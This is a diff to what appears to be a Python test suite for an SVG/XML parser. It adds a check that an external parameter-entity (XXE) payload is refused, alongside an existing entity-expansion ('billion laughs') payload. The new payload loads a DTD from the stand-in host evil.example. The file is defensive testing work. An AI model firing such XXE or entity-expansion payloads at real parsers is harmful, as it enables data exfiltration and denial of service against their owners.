@@ -50,6 +50,8 @@ def test_svg_xxe_and_entities() -> None:
     laughs = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
               b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>')
     one_invalid(laughs)
+    param = b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>'
+    assert "refused" in one_invalid(param)
 
 
 def test_deep_nesting() -> None:
